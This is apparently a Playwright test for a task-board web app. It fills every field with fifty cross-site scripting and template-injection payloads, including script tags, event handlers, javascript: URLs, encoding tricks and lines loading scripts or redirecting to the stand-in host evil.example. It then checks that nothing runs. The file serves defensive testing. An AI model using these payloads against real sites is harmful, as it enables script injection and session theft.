"""Hostile texts in every field of a board run nothing, and the browser reports no breach of the page's policy."""

from urllib.parse import quote

import pytest
from playwright.sync_api import Page

from punchlist.board import Board
from tests.web.conftest import Tabs

PAYLOADS = [
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "` onmouseover=alert(1) x=`",
    '" onfocus=alert(1) autofocus x="',
    "' onfocus=alert(1) autofocus x='",
    "{{ 7 * 7 }}{% print(alert) %}",
    "${alert(1)}#{alert(1)}",
    "{{ ''.__class__.__mro__ }}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "＜script＞alert(1)＜/script＞",
    "<ſcript>alert(1)</ſcript>",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "\u202e<script>alert(1)</script>\u202c",
    "\x1b]0;x\x07<script>alert(1)</script>",
    'data: {"topic": "now", "parts": {"main": "<img src=x onerror=alert(1)>"}}\n\n',
]


def fill(board: Board, number: int, payload: str) -> str:
    """Put a payload into every field that a page may show; return the session."""
    name = "".join(char for char in payload if char.isprintable())  # others are refused
    session = f"s{number} {name}"[:120]
    agent = board.agent(name[:60], session=session, project=f"/projects/{name.replace('/', '-')}"[:80])
    items = [payload, f"{payload} 2", f"{payload} 3"]
    agent.edit({"op": "init", "list": [{"phase": payload, "items": items}]}, by=name)
    agent.edit({"op": "note", "item": "1", "text": payload}, by=name)
    agent.edit({"op": "block", "item": "2", "reason": payload}, by=name)
    agent.edit({"op": "done", "item": "3", "evidence": payload}, by="main")
    agent.tool_started("c1", payload, {"command": payload, "file_path": payload})
    agent.tool_finished("c1", payload, is_error=True)
    agent.tool_started("c2", "Bash", {"command": "pytest -q"})
    agent.tool_finished("c2", f"{payload}\n1 failed in 0.1s", exit_code=1)
    child = agent.spawn("child", label=payload)
    child.edit({"op": "append", "items": [payload]}, by="child")
    agent.ask("1", payload)
    planner = board.agent(f"p {name}"[:60], session=session)
    planner.enter_plan_mode()
    planner.propose_plan(f"# {payload}\n\n1. {payload}")
    tasks = board.tasks("default", by=name)
    task = tasks.create(payload, description=payload, labels=["x"], checklist=[payload], state={payload: payload})
    tasks.create(f"{payload} 2", blocked_by=[task.id], active_form=payload)
    tasks.fail(task.id, payload)
    return session


_COUNT_FOREIGN = """() => {
  const foreign = document.querySelectorAll("main :is(img, iframe, object, embed, style, link, base, meta, video)");
  const scripts = document.querySelectorAll("script");
  const marked = [...document.querySelectorAll("*")].filter((element) =>
    [...element.attributes].some(({ name, value }) =>
      /^on|^style$/.test(name) || (/^(href|src|action|formaction)$/.test(name) && !/^[/?#]/.test(value))));
  return [foreign.length, scripts.length, marked.map((element) => element.outerHTML)];
}"""


def check(page: Page) -> None:
    page.locator("details").evaluate_all("all => all.forEach((element) => { element.open = true })")
    assert page.evaluate(_COUNT_FOREIGN) == [0, 1, []]
    assert page.evaluate("window.violations") == []


@pytest.mark.parametrize("part", range(5))
def test_fifty_payloads_in_every_field_run_nothing(tabs: Tabs, board: Board, part: int) -> None:
    sessions = [fill(board, number, payload) for number, payload in enumerate(PAYLOADS[part * 10 : part * 10 + 10])]
    context = tabs.open_context()
    page = context.new_page()
    tasks = ("/tasks", "/tasks/default", "/tasks/default?view=table", "/tasks/default?view=graph", "/tasks/default/1")
    for path in ("/", "/sessions", *tasks, "/stats"):
        page.goto(tabs.origin + path)
        check(page)
    for session in sessions:
        page.goto(f"{tabs.origin}/sessions/{quote(session, safe='')}")
        page.locator(".head").wait_for()
        check(page)
        page.get_by_role("link", name="Read and decide").first.click()
        page.locator(".plan").wait_for()
        check(page)
    page.goto(f"{tabs.origin}/search")  # the frame has a link to it, no field
    page.get_by_role("searchbox").fill(PAYLOADS[part * 10])
    page.keyboard.press("Enter")
    page.locator("#results").wait_for()
    check(page)
